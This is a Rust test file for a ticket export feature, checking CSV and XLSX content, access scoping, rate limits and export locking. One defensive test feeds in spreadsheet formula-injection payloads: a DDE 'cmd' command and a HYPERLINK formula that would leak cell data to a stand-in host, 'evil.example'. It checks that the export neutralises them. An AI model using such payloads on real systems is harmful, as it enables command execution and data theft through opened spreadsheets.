//! Tickets as a file to take away.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use poem::Response;
use serde_json::{Value, json};

use crate::{
    app::{App, PASSWORD},
    cluster,
    projects::{Firm, Person},
};

const HEAD: [&str; 19] = [
    "Code",
    "Title",
    "Status",
    "Priority",
    "Category",
    "Project code",
    "Project",
    "Requester",
    "Assignee",
    "Location",
    "Due on",
    "Reply target due (IST)",
    "Target state",
    "Created (IST)",
    "Updated (IST)",
    "Resolved (IST)",
    "Reopened",
    "Rating",
    "Shown to client",
];

impl Firm {
    async fn export(&self, who: &Person, query: &str) -> Response {
        let request = self.app.http.get(format!("/api/v1/tickets/export?{query}"));
        let request = request.header("authorization", format!("Bearer {}", who.token));
        request.send().await.0
    }

    /// The rows of a CSV, below its head.
    async fn csv(&self, who: &Person, query: &str) -> Vec<Vec<String>> {
        let bytes = bytes(self.export(who, &format!("format=csv&{query}")).await).await;
        let table = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap();
        let mut table = csv::ReaderBuilder::new().has_headers(false).from_reader(table);
        let mut rows: Vec<Vec<String>> =
            table.records().map(|it| it.unwrap().iter().map(str::to_owned).collect()).collect();
        assert_eq!(rows.remove(0), HEAD);
        rows
    }

    /// The same of a workbook.
    async fn xlsx(&self, who: &Person, query: &str) -> Vec<Vec<Data>> {
        let bytes = bytes(self.export(who, &format!("format=xlsx&{query}")).await).await;
        let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
        assert!(book.worksheet_formula("Sheet1").unwrap().is_empty());
        let sheet = book.worksheet_range_at(0).unwrap().unwrap();
        let mut rows: Vec<_> = sheet.rows().map(<[Data]>::to_vec).collect();
        assert_eq!(rows.remove(0), HEAD.map(|it| Data::String(it.to_owned())));
        rows
    }

    async fn exported(&self, who: &Person, query: &str) -> Vec<String> {
        self.csv(who, query).await.into_iter().map(|it| it[1].clone()).collect()
    }
}

async fn bytes(response: Response) -> Vec<u8> {
    assert_eq!(response.status().as_u16(), 200);
    response.into_body().into_vec().await.unwrap()
}

#[tokio::test]
async fn a_row_says_what_a_ticket_is() {
    let (mut firm, site) = Firm::with_site().await;
    let more = json!({
        "title": "Wet wall, \"east\"", "priority": "high", "location_on_site": "Kitchen",
        "due_on": "2026-11-28",
    });
    let ticket = firm.raise(&firm.client, &site, &more).await.created();
    let ticket = firm.assign(&firm.manager, &ticket, Some(&firm.engineer)).await.ok();
    let expected = [
        "TKT-0001",
        "Wet wall, \"east\"",
        "Open",
        "High",
        "Quality defect",
        "PRJ-0001",
        "Rao residence",
        "Asha Rao",
        "Vikram Nair",
        "Kitchen",
        "2026-11-28",
        "2026-11-21 15:40",
        "On track",
        "2026-11-21 11:40",
        "2026-11-21 11:40",
        "",
        "0",
        "",
        "Yes",
    ];
    assert_eq!(firm.csv(&firm.client, "").await, [expected.map(str::to_owned)]);
    let cell = |(column, text): (usize, &str)| match (column, text) {
        (_, "") => Data::Empty,
        (16, _) => Data::Float(0.0),
        (_, text) => Data::String(text.to_owned()),
    };
    let cells: Vec<_> = expected.into_iter().enumerate().map(cell).collect();
    assert_eq!(firm.xlsx(&firm.client, "").await, [cells]);

    firm.later(60).await;
    firm.moved(&ticket, "in_progress").await;
    let done = firm.moved(&ticket, "resolved").await;
    let rated = json!({"status": "closed", "rating": 4});
    firm.take(&firm.client, &done, &rated).await.ok();
    let row = firm.csv(&firm.manager, "").await.remove(0);
    let seen = [&row[2], &row[11], &row[12], &row[15], &row[17]];
    assert_eq!(seen, ["Closed", "", "Met", "2026-11-21 11:41", "4"]);
    let row = firm.xlsx(&firm.manager, "").await.remove(0);
    assert_eq!(row[17], Data::Float(4.0));
}

#[tokio::test]
async fn a_file_is_to_be_kept_under_its_name() {
    let firm = Firm::open().await;
    for (format, media_type) in [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ] {
        let response = firm.export(&firm.manager, &format!("format={format}")).await;
        let header = |name: &str| response.header(name).map(str::to_owned);
        let name = format!("attachment; filename=\"tickets-2026-11-21.{format}\"");
        assert_eq!(header("content-disposition"), Some(name));
        assert_eq!(header("content-type").as_deref(), Some(media_type));
        assert_eq!(header("x-content-type-options").as_deref(), Some("nosniff"));
        assert_eq!(header("cache-control").as_deref(), Some("no-store"));
        assert_eq!(header("x-truncated"), None);
        let length = header("content-length").unwrap();
        assert_eq!(bytes(response).await.len().to_string(), length);
    }
    for wrong in ["", "format=pdf", "format=CSV"] {
        let response = firm.export(&firm.manager, wrong).await;
        assert_eq!(response.status().as_u16(), 422, "{wrong}");
    }
    // Nothing is left of it.
    let incoming = std::fs::read_dir(firm.app.home.path().join("incoming")).unwrap();
    assert_eq!(incoming.count(), 0);
}

/// It is the list, as the caller sees it: T-04.
#[tokio::test]
async fn an_export_is_the_callers_list() {
    let (firm, site, theirs) = Firm::with_two_sites().await;
    for (title, priority) in [("Low", "low"), ("Urgent", "urgent"), ("High", "high")] {
        let more = json!({"title": title, "priority": priority, "client_visible": true});
        firm.raise(&firm.manager, &site, &more).await.created();
    }
    firm.hidden(&site).await;
    firm.raise(&firm.other_client, &theirs, &json!({"title": "Theirs"})).await.created();
    let of = format!("project_id={}", theirs["id"].as_str().unwrap());
    for query in
        ["", "sort=priority", "sort=due", "priority=low", "search=urgent", "search=late", &of]
    {
        for who in [&firm.admin, &firm.manager, &firm.engineer, &firm.client, &firm.other_client] {
            let listed = firm.titles(who, query).await;
            assert_eq!(firm.exported(who, query).await, listed, "{query}");
            let rows = firm.xlsx(who, query).await;
            let titles: Vec<_> = rows.iter().map(|it| it[1].to_string()).collect();
            assert_eq!(titles, listed, "{query}");
        }
    }
    assert_eq!(firm.exported(&firm.client, "").await, ["High", "Urgent", "Low"]);
    assert_eq!(firm.exported(&firm.client, &of).await, [""; 0]);
    assert_eq!(firm.exported(&firm.other_engineer, "").await, ["Theirs"]);
    let mut owner = cluster::owner(&firm.app.database).await;
    let logged = "select count(*) from event where kind = 'exported' and actor = $1::uuid";
    let logged: i64 =
        sqlx::query_scalar(logged).bind(&firm.client.id).fetch_one(&mut owner).await.unwrap();
    assert_eq!(logged, 16, "each is remembered");
}

/// T-31: no cell does anything, whoever opens it.
#[tokio::test]
async fn no_cell_is_a_formula() {
    let (firm, site) = Firm::with_site().await;
    let mut texts: Vec<String> =
        ["=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠A"].map(str::to_owned).into();
    texts.push("=cmd|' /C calc'!A0".to_owned());
    texts.push("=HYPERLINK(\"http://evil.example?\"&A1,\"x\")".to_owned());
    for text in &texts {
        let more = json!({"title": text, "location_on_site": text});
        firm.raise(&firm.client, &site, &more).await.created();
    }
    texts.reverse();
    let rows = firm.csv(&firm.client, "").await;
    for (row, text) in rows.iter().zip(&texts) {
        assert_eq!((&row[1], &row[9]), (&format!("'{text}"), &format!("'{text}")));
    }
    assert_eq!(rows.len(), texts.len());
    // A workbook says that a text is one: nothing has to be put before it.
    for (row, text) in firm.xlsx(&firm.client, "").await.iter().zip(&texts) {
        assert_eq!(row[1], Data::String(text.clone()));
    }
    for text in ["<b>", "a\"b", "a;b", "a,b", "नमस्ते 👷🏽‍♀️", "1 = 1"] {
        firm.raise(&firm.client, &site, &json!({"title": text})).await.created();
        assert_eq!(firm.csv(&firm.client, "").await[0][1], text);
        assert_eq!(firm.xlsx(&firm.client, "").await[0][1], Data::String(text.to_owned()));
    }
}

/// More than are read at once: each once, in order.
#[tokio::test]
async fn a_long_list_is_exported_whole() {
    let (firm, site) = Firm::with_site().await;
    let ticket = firm.ticket(&firm.client, &site).await;
    copies(&firm, &ticket, 2_100).await;
    for sort in ["newest", "priority", "due", "updated"] {
        let rows = firm.csv(&firm.client, &format!("sort={sort}")).await;
        let mut codes: Vec<_> = rows.iter().map(|it| it[0].clone()).collect();
        assert_eq!(codes.len(), 2_101, "{sort}");
        codes.sort();
        codes.dedup();
        assert_eq!(codes.len(), 2_101, "{sort}");
    }
    assert_eq!(firm.xlsx(&firm.client, "").await.len(), 2_101);
    // Where it is not whole, it says so.
    let whole = firm.export(&firm.client, "format=csv").await;
    assert_eq!(whole.header("x-truncated"), None);
    let found = firm.export(&firm.client, "format=csv&search=damp").await;
    assert_eq!(found.header("x-truncated"), Some("true"));
    assert_eq!(firm.exported(&firm.client, "search=damp").await.len(), 1_000);
}

/// Copies the ticket `count` times.
async fn copies(firm: &Firm, ticket: &Value, count: i32) {
    let mut owner = cluster::owner(&firm.app.database).await;
    let columns = "project_id, title, description, category, priority, status, requester_id, \
        by_client, client_visible, first_response_minutes, resolution_minutes, started_at, \
        paused_seconds, first_response_due_at, resolution_due_at, due_at, soon_at, reopen_count, \
        created_at, updated_at, version";
    let copy = format!(
        "insert into ticket (id, number, {columns}) \
         select gen_random_uuid(), 1000 + n, {columns} \
         from ticket, generate_series(1, $2) n where id = $1::uuid"
    );
    let id = ticket["id"].as_str().unwrap();
    let copy = sqlx::query(sqlx::AssertSqlSafe(copy)).bind(id).bind(count);
    copy.execute(&mut owner).await.unwrap();
}

/// A second export of the same account is refused while the first is written; other accounts are
/// not affected.
#[tokio::test]
async fn each_has_one_export_at_a_time() {
    let (firm, site) = Firm::with_site().await;
    firm.ticket(&firm.client, &site).await;
    let mut owner = cluster::owner(&firm.app.database).await;
    let mut held = sqlx::Connection::begin(&mut owner).await.unwrap();
    sqlx::query("lock table ticket in access exclusive mode").execute(&mut *held).await.unwrap();
    let first = firm.export(&firm.client, "format=csv");
    let rest = async {
        // Until the first has begun: before that, nobody is in anybody's way.
        let waiting = "select count(*) from pg_locks where not granted";
        let mut watch = cluster::owner(&firm.app.database).await;
        loop {
            let count: i64 = sqlx::query_scalar(waiting).fetch_one(&mut watch).await.unwrap();
            if count > 0 {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(10)).await;
        }
        let second = firm.export(&firm.client, "format=xlsx").await;
        assert_eq!(second.status().as_u16(), 429);
        assert_eq!(second.header("retry-after"), Some("5"));
        let body: Value =
            serde_json::from_slice(&second.into_body().into_vec().await.unwrap()).unwrap();
        assert_eq!(body["code"], "export_running");
        held.rollback().await.unwrap();
    };
    let (first, ()) = tokio::join!(first, rest);
    assert_eq!(
        bytes(first).await.len(),
        bytes(firm.export(&firm.client, "format=csv").await).await.len()
    );
}

/// Ten an hour, for the account and not for its network.
#[tokio::test]
async fn exports_are_counted_by_account() {
    let app = App::limited().await;
    let mut people = Vec::new();
    for email in ["asha@example.com", "imran@example.com"] {
        app.enroll(email, kernel::Role::Client).await;
        let session = app.sign_in(email, PASSWORD).await.ok();
        people.push(session["access_token"].as_str().unwrap().to_owned());
    }
    let export = async |who: &str| {
        let request = app.http.get("/api/v1/tickets/export?format=csv");
        request.header("authorization", format!("Bearer {who}")).send().await.0
    };
    for left in (0..10).rev() {
        let response = export(&people[0]).await;
        assert_eq!(response.status().as_u16(), 200);
        assert_eq!(response.header("x-ratelimit-resource"), Some("export"));
        assert_eq!(response.header("x-ratelimit-remaining"), Some(left.to_string().as_str()));
    }
    let refused = export(&people[0]).await;
    assert_eq!(refused.status().as_u16(), 429);
    assert_eq!(refused.header("retry-after"), Some("360"));
    assert_eq!(export(&people[1]).await.status().as_u16(), 200);
    app.wait(360);
    assert_eq!(export(&people[0]).await.status().as_u16(), 200);
}
